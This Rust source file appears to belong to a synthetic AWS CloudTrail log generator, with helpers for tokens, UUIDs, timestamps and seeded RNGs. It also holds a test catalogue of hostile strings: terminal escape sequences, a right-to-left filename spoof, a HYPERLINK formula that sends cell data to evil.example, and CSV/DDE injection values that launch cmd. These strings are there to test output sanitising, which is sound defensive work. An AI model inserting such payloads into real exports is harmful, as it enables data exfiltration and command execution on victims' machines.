//! Random tokens in AWS shapes, timestamps, and the hostile-string catalogue.

use std::borrow::Cow;

use chrono::{DateTime, Utc};
use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;

/// The only generator used; a named alias keeps call sites short and makes
/// swapping it a one-line change that would (deliberately) change every corpus.
pub type SynthRng = ChaCha8Rng;

const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const UPPER_ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const HEX: &[u8] = b"0123456789abcdef";

fn from_alphabet(rng: &mut SynthRng, alphabet: &[u8], n: usize) -> String {
    (0..n)
        .map(|_| alphabet[rng.random_range(0..alphabet.len())] as char)
        .collect()
}

/// Mixed-case token, as in CloudTrail file-name suffixes and secret ARNs.
pub fn alnum(rng: &mut SynthRng, n: usize) -> String {
    from_alphabet(rng, ALNUM, n)
}

/// IAM unique-id alphabet (AROA…, AIDA…, ASIA…).
pub fn upper(rng: &mut SynthRng, n: usize) -> String {
    from_alphabet(rng, UPPER_ALNUM, n)
}

pub fn hex(rng: &mut SynthRng, n: usize) -> String {
    from_alphabet(rng, HEX, n)
}

/// A random 128-bit value with `UUIDv4` version/variant bits, so formatted ids
/// look real and the stored integer is exactly what gets printed.
pub fn new_uuid(rng: &mut SynthRng) -> u128 {
    let raw: u128 = rng.random();
    (raw & !(0xf << 76) & !(0x3 << 62)) | (0x4 << 76) | (0x2 << 62)
}

pub fn fmt_uuid(id: u128) -> String {
    let h = format!("{id:032x}");
    format!(
        "{}-{}-{}-{}-{}",
        &h[0..8],
        &h[8..12],
        &h[12..16],
        &h[16..20],
        &h[20..32]
    )
}

pub fn random_uuid(rng: &mut SynthRng) -> String {
    fmt_uuid(new_uuid(rng))
}

/// CloudTrail's own `eventTime` shape: whole seconds, literal `Z`.
pub fn event_time(t: DateTime<Utc>) -> String {
    t.format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

/// Derives an independent generator per (purpose, index) so any record can be
/// re-rendered byte-identically on its own, in any order or thread.
pub fn derived_rng(seed: u64, purpose: u64, index: u64) -> SynthRng {
    let mut x = seed
        ^ purpose.wrapping_mul(0x9e37_79b9_7f4a_7c15)
        ^ index.wrapping_mul(0xd1b5_4a32_d192_ed03);
    // splitmix64 finaliser: nearby indices must not give correlated streams.
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    SynthRng::seed_from_u64(x ^ (x >> 31))
}

/// Strings a terminal UI or a spreadsheet export must neutralise. Principal
/// ARNs, session names, user agents and context values all get them.
pub const HOSTILE: &[&str] = &[
    "\u{1b}[31mRED ALERT\u{1b}[0m",
    "\u{1b}]0;pwned\u{7}",
    "\u{1b}[2J\u{1b}[Hcleared",
    "report\rOVERWRITTEN",
    "ding\u{7}ding\u{7}",
    "rub\u{7f}out",
    "\u{9b}31mC1-CSI",
    "\u{202e}gnp.exe",
    "\u{2066}isolated\u{2069}text",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "multi\nline\ttabbed",
];

/// Index values at or above `HOSTILE.len()` select one of these long forms.
pub const LONG_HOSTILE_VARIANTS: usize = 2;

pub fn hostile_count() -> usize {
    HOSTILE.len() + LONG_HOSTILE_VARIANTS
}

pub fn is_long_hostile(index: usize) -> bool {
    index >= HOSTILE.len()
}

/// ~5 KB values exercise column truncation and line-buffer limits.
pub fn hostile(index: usize) -> Cow<'static, str> {
    match HOSTILE.get(index) {
        Some(s) => Cow::Borrowed(s),
        None if index == HOSTILE.len() => {
            let mut s = String::with_capacity(5_200);
            while s.len() < 5_000 {
                s.push_str("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\u{1b}[7m");
            }
            Cow::Owned(s)
        }
        None => Cow::Owned(format!("={}", "\u{202e}x".repeat(1_700))),
    }
}
